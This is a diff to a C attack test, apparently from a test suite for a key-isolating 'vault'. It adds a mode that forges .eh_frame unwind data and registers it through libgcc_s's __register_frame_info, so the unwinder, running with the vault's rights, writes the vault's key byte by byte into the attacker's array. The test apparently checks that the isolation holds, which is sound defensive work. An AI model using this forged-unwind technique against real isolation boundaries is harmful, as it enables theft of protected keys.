@@ -11,6 +11,11 @@
  * its return address base + 1 + the byte there. libgcc_s's unwinder, run
  * by backtrace with the vault's rights, evaluates it and the vault writes
  * its key, one byte per "return address", into the program's array.
+ * With "register" (attacks-rev22-unwind-registered.test) the forged
+ * .eh_frame goes instead to libgcc_s's list of registered frames
+ * (__register_frame_info, called by the default domain: the list is
+ * statics in libgcc_s's .bss, key-0 memory a data-only attacker could
+ * write the same way), which libgcc_s searches before ld.so's records.
  * With "control" nothing is forged; with "nobody" it runs as nobody.
  * Exits 0 only if the key reached the program's memory. */
 #define _GNU_SOURCE
@@ -121,6 +126,18 @@ static int redirect(uintptr_t handle) {
   return n;
 }
 
+/* Hands the forged .eh_frame to libgcc_s's list of registered frames. */
+static int register_forged(void) {
+  static uintptr_t object[16]; /* libgcc's struct object: 6 words */
+  void (*reg)(const void *, void *) =
+      (void (*)(const void *, void *))dlsym(RTLD_DEFAULT,
+                                            "__register_frame_info");
+  if (!reg)
+    return 0;
+  reg(frame, object);
+  return 1;
+}
+
 int main(int argc, char **argv) {
   if (argc < 2)
     return 2;
@@ -142,7 +159,11 @@ int main(int argc, char **argv) {
   int n = length();
   void *out[64] = {0};
   printf("registered; frames: %s\n", where(out, 4) > 1 ? "some" : "none");
-  if (!has_arg(argc, argv, "control")) {
+  if (has_arg(argc, argv, "register")) {
+    forge();
+    printf("forged frames registered with libgcc_s: %s\n",
+           register_forged() ? "yes" : "no");
+  } else if (!has_arg(argc, argv, "control")) {
     forge();
     printf("ld.so's records of the vault's eh_frame redirected: %s\n",
            redirect((uintptr_t)h) ? "yes" : "none found");
